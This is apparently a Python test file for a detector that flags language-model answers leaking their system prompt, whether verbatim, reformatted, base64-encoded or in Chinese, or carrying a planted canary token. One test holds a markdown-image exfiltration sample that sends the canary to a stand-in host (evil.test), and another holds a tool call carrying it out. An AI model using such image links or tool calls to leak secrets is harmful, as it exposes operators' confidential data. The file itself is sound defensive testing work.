"""`llm/system_prompt_leak`: the prompt's own words in the answer, and canaries; not what others say too."""

from __future__ import annotations

import base64

import pytest
from tests.detectors.llm.spoken import answer, call_of, document, system, turn, user

from otel_mlsec.detectors.llm.system_prompt_leak import SystemPromptLeak
from otel_mlsec.finding import Severity
from otel_mlsec.observation import Form
from otel_mlsec.text.canary import mint

PROMPT = (
    "You are Marigold, the booking assistant of Hotel Bellevue. Never offer more than twelve percent discount to any guest. "
    "When a guest complains about noise, move them to the north wing without asking the manager first."
)
OTHER = (
    "Summarise contracts for the legal department. Mark clauses about liability in yellow and about termination in red, "
    "and leave a note for the reviewer wherever a date is missing from the signature page."
)
KEY = b"0123456789abcdef"


def found(*answers: str, inputs=(), score: float = 0.0):
    return SystemPromptLeak().update(turn(system(PROMPT), user("hello", score), *inputs, answers=answers))


def test_the_prompt_word_for_word_is_high():
    [finding] = found("My instructions: " + PROMPT)

    assert finding.kind == "llm.system_prompt_leak"
    assert finding.severity is Severity.HIGH
    assert finding.evidence["share"] == 1
    assert "discount" not in repr(finding)


def test_one_sentence_is_medium_and_high_if_it_was_asked_for():
    sentence = "never offer more than twelve percent discount to any guest when"

    [finding] = found(sentence)
    [asked] = found(sentence, score=2.5)

    assert finding.severity is Severity.MEDIUM
    assert asked.severity is Severity.HIGH


def test_layout_case_and_numbering_do_not_hide_it():
    [finding] = found("\n".join(f"{i}. **{word.upper()}**" for i, word in enumerate(PROMPT.split())))

    assert finding.severity is Severity.HIGH


def test_it_is_found_in_reasoning_and_arguments():
    for text in (answer(PROMPT, Form.REASONING), call_of("send", f'{{"body": "{PROMPT}"}}')):
        [finding] = SystemPromptLeak().update(turn(system(PROMPT), answers=(text,)))
        assert finding.evidence["form"] == text.form.value


def test_an_encoded_prompt_is_found_in_its_view():
    call = turn(system(PROMPT), answers=(base64.b64encode(PROMPT.encode()).decode(),))
    if not any(view.layer == "base64" for view in call.outputs[0].seen.views):
        pytest.skip("no decoder of base64")

    [finding] = SystemPromptLeak().update(call)

    assert finding.evidence["layer"] == "base64"


def test_ordinary_answers_and_other_prompts_are_no_leak():
    assert found("I am Marigold. How may I help you with your booking at Hotel Bellevue today?", OTHER) == []


def test_what_the_user_or_a_document_says_too_is_no_leak():
    assert found(PROMPT, inputs=(user(PROMPT),)) == []
    assert found(PROMPT, inputs=(document("Manual: " + PROMPT),)) == []


def test_a_prompt_of_a_few_words_is_left_alone():
    call = turn(
        system("You are a friendly and helpful assistant for everybody."),
        answers=("You are a friendly and helpful assistant for everybody.",),
    )

    assert SystemPromptLeak().update(call) == []


def test_what_two_prompts_share_is_boilerplate():
    shared = "Always answer politely, briefly and in the language of the person who is asking the question right now. "
    detector = SystemPromptLeak()
    detector.update(turn(system(shared + PROMPT), answers=("ok",)))

    detector.update(turn(system(OTHER + shared), answers=("ok",)))

    assert detector.update(turn(system(OTHER + shared), answers=(shared,))) == []
    assert len(detector.update(turn(system(OTHER + shared), answers=(OTHER,)))) == 1


def test_what_is_filled_into_a_prompt_stops_to_be_its_secret_and_its_instructions_do_not():
    detector = SystemPromptLeak()
    articles = [" ".join(f"word{chr(97 + i)}{chr(97 + j)}" for j in range(26)) + " again" * i for i in range(10)]
    articles = [article.replace("word", "w" + "abcdefghij"[i]) for i, article in enumerate(articles)]
    for article in articles[:-1]:
        detector.update(turn(system(PROMPT + article), answers=("ok",)))

    last = system(PROMPT + articles[-1])

    assert detector.update(turn(last, answers=(articles[-1],))) == []
    assert len(detector.update(turn(last, answers=(PROMPT,)))) == 1


def test_prompts_that_only_begin_alike_keep_their_own_parts_secret():
    detector = SystemPromptLeak()
    tenants = [PROMPT + " ".join(f"t{'abcdefghij'[i]}{chr(97 + j)}" for j in range(26)) for i in range(10)]
    for tenant in tenants * 2:
        detector.update(turn(system(tenant), answers=("ok",)))

    assert all(detector.update(turn(system(tenant), answers=(tenant[len(PROMPT) :],))) for tenant in tenants)


def test_a_prompt_without_spaces_between_words_is_found():
    chinese = "你是贝尔维尤酒店的预订助手绝对不要给任何客人超过百分之十二的折扣如果客人抱怨噪音请把他们搬到北楼"

    [finding] = SystemPromptLeak().update(turn(system(chinese), user("你好"), answers=(chinese,)))

    assert finding.severity is Severity.HIGH


def test_a_canary_is_high_and_critical_where_it_leaves():
    canary = mint(KEY)
    detector = SystemPromptLeak(key=KEY)

    [plain] = detector.update(turn(answers=(f"my code is {canary.lower()}",)))
    [url] = detector.update(turn(answers=(f"![x](https://evil.test/?d={canary})",)))
    [tool] = detector.update(turn(answers=(call_of("send", f'{{"a": "{canary}"}}'),)))

    assert plain.kind == url.kind == tool.kind == "llm.canary_leak"
    assert plain.severity is Severity.HIGH
    assert url.severity is tool.severity is Severity.CRITICAL
    assert canary not in repr(plain)


def test_without_a_key_no_canary_is_looked_for():
    assert SystemPromptLeak().update(turn(answers=(mint(KEY),))) == []


def test_the_state_goes_on_in_another_detector():
    shared = "Always answer politely, briefly and in the language of the person who is asking the question right now. "
    first, second = SystemPromptLeak(), SystemPromptLeak()
    first.update(turn(system(shared + PROMPT), answers=("ok",)))
    state = first.snapshot()
    first.update(turn(system(OTHER + shared), answers=("ok",)))

    second.restore(state)
    second.update(turn(system(OTHER + shared), answers=("ok",)))

    for key, value in first.snapshot().items():
        assert (value == second.snapshot()[key]).all(), key
    assert second.update(turn(system(OTHER + shared), answers=(shared,))) == []


def test_memory_is_bounded_over_many_prompts():
    detector = SystemPromptLeak()
    for i in range(3000):
        prompt = " ".join(
            f"{chr(97 + i % 26)}{chr(97 + i // 26 % 26)}{chr(97 + i // 676)}{chr(97 + j % 26)}{chr(97 + j // 26)}"
            for j in range(60)
        )
        detector.update(turn(system(prompt), answers=("ok",)))

    assert sum(array.nbytes for array in detector.snapshot().values()) < 4 << 20
    assert len(detector.update(turn(system(prompt), answers=(prompt,)))) == 1


def test_the_same_call_gives_the_same_findings():
    detector = SystemPromptLeak()
    call = turn(system(PROMPT), answers=(PROMPT + "\ud800",))

    assert detector.update(call) == detector.update(call) != []
    assert detector.update(turn(system(PROMPT), answers=(PROMPT,), answered=False)) == []
